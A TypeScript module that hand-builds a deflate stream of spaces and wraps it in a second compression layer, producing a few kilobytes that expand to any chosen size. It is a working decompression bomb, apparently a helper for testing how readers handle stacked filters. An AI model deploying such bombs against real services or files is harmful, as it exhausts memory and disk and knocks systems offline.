/** Deflated spaces, 159 to 1, written by hand: one literal, then copies of 258 bytes, in the fixed code of the format. */
function deflatedSpaces(bytes: number): Uint8Array<ArrayBuffer> {
  const bits: number[] = [];
  // most significant bit first, as codes are
  const code = (value: number, length: number): void => {
    for (let bit = length - 1; bit >= 0; bit -= 1) bits.push((value >> bit) & 1);
  };
  bits.push(1, 1, 0);
  code(0x30 + 0x20, 8);
  for (let done = 1; done < bytes; done += 258) {
    code(0b11000101, 8);
    code(0, 5);
  }
  code(0, 7);
  const packed = new Uint8Array(2 + Math.ceil(bits.length / 8));
  packed.set([0x78, 0x9c]);
  for (let index = 0; index < bits.length; index += 1) {
    packed[2 + (index >> 3)]! |= bits[index]! << (index & 7);
  }
  return packed;
}

/** A few kilobytes that two filters blow up to `bytes`; the check sum at the end is missing, which readers forgive. */
export async function bomb(bytes: number): Promise<Uint8Array<ArrayBuffer>> {
  const inner = new Blob([deflatedSpaces(bytes)]).stream();
  const outer = inner.pipeThrough(new CompressionStream('deflate'));
  return new Uint8Array(await new Response(outer).arrayBuffer());
}
